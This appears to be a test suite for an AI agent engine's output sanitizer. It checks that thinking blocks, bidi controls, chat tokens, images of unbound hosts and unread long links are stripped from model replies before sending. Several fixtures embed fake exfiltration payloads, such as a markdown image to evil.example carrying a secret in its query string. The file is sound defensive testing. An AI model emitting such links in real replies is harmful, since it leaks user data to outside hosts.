import { deliverySend } from '#libs/contracts';
import { everyEntry, latestEntries } from '#libs/journal';
import { until } from '#libs/testing';
import { type EngineWorld, engineWorld, turnOf } from '../../testing/engine-world.js';
import { type Script, type FakeModel } from '../../testing/fake-model.js';
import { type FakeServices, toolOf, toolsetOf } from '../../testing/fake-services.js';
import { agentOf, turnsOf } from '../../testing/turns-of.js';

describe('the text of a model, on its way out', () => {
  let world: EngineWorld;
  let model: FakeModel;
  let services: FakeServices;
  let agentId: string;

  beforeAll(async () => {
    world = await engineWorld();
    ({ model, services } = world);
    const hosts = ['img.desk.example'];
    const bound = toolOf({
      credential_bindings: [{ credential_id: 'crd_1', as: 'desk', skill_id: 'skl_desk', hosts }],
    });
    services.on('/internal/toolsets', () => toolsetOf([bound]));
    await world.start();
    agentId = await agentOf(world, { tools: ['search_knowledge'], skills: ['skl_desk'] });
  });
  afterAll(() => world.close());

  const answer = async (script: Script[], input = {}) => {
    model.script(...script);
    const turn = turnOf({ agent_id: agentId }, input);
    return turnsOf(world).run(turn);
  };
  const sent = (id: string) =>
    until('it is offered', async () => (await world.waiting(deliverySend)).find((job) => job.turn_id === id));
  const messageOf = (message: string) => ({
    message: { event_type: 'message', sender: 'ada', message, is_bot: false, metadata: {} },
  });

  it('loses hidden text and what could exfiltrate data, with notes, and says so', async () => {
    const written = '<think>The secret is tea.</think>Done\u202E![x](https://evil.example/?q=tea)<|im_end|>';
    const turn = await answer([written]);
    const { id, state, reply_text: text } = turn;
    const cleaned = '[thinking removed]Done[image removed: evil.example][removed-token]';
    expect([state, text]).toEqual(['succeeded', cleaned]);
    expect((await sent(id))?.content?.text).toBe(cleaned);
    const steps = await world.pool.query('SELECT kind, content FROM engine.step WHERE turn_id = $1 ORDER BY seq', [id]);
    const taken = { thinking_blocks: 1, bidi_controls: 1, images: 1, chat_tokens: 1 };
    expect(steps.rows).toEqual([{ kind: 'model_call', content: expect.objectContaining({ text: written }) }]);
    const entry = await until('the timeline says so', async () => {
      const sql = `SELECT detail FROM ${everyEntry} e WHERE subject_id = $1 AND reason = 'reply_cleaned'`;
      return (await world.pool.query(sql, [id])).rows[0];
    });
    expect(entry.detail).toEqual({ taken, text: expect.stringContaining('removed before it was sent') });
    // The clock of its process may be ahead of that of Postgres: the end is still the last.
    await world.pool.query(`UPDATE journal.entry SET at = at + interval '1 second' WHERE subject_id = $1`, [id]);
    const scope = { organizationId: turn.organization_id, projectId: turn.project_id };
    const db = { query: async (sql: string, values?: unknown[]) => (await world.pool.query(sql, values)).rows };
    const [last] = await latestEntries(db, scope, [turn.receipt_id]);
    expect(last?.outcome).toBe('succeeded');
  });

  it('shows images of hosts that its Skills bind, and those that the message links, exactly as it links them', async () => {
    const text = '![a](https://img.desk.example/a.png) ![b](https://x.example/b.png) ![c](https://x.example/?tea)';
    const { id } = await answer([text], messageOf('What is on https://x.example/b.png?'));
    expect((await sent(id))?.content?.text).toBe(
      '![a](https://img.desk.example/a.png) ![b](https://x.example/b.png) [image removed: x.example]',
    );
  });

  it('loses long links except those that the turn has read', async () => {
    const [read, own] = ['https://files.example/a?s=', 'https://evil.example/?q='].map((url) => url + 'a'.repeat(300));
    const { id } = await answer([`Here: ${read} and ${own}`], messageOf(`Repeat ${read}`));
    expect((await sent(id))?.content?.text).toBe(`Here: ${read} and https://evil.example/[link cut: 303 characters]`);
  });

  it.each<[string, Script, object]>([
    ['nothing to say', '<think>Not for me.</think>\nNO_REPLY', { state: 'succeeded', reason: 'nothing_to_say' }],
    ['no answer', '<think>Hm.', { state: 'failed', reason: 'empty_answer' }],
  ])('is %s where the model only thought', async (_what, script, expected) => {
    model.always(script);
    expect(await answer([])).toMatchObject({ ...expected, reply: 'none' });
    model.always(null);
  });

  it('stays unchanged when it is an ordinary answer', async () => {
    const text = '**Done**: see [the page](https://x.example/?a=b) and `<think>`.\r\nBye';
    const { id, reply_text } = await answer([text]);
    expect(reply_text).toBe(text.replace('\r\n', '\n'));
    const entries = await until('the timeline has its end', async () => {
      const { rows } = await world.pool.query(`SELECT outcome, reason FROM ${everyEntry} e WHERE subject_id = $1`, [
        id,
      ]);
      return rows.some(({ outcome }) => outcome === 'succeeded') && rows;
    });
    expect(entries.map(({ reason }) => reason)).not.toContain('reply_cleaned');
  });
});
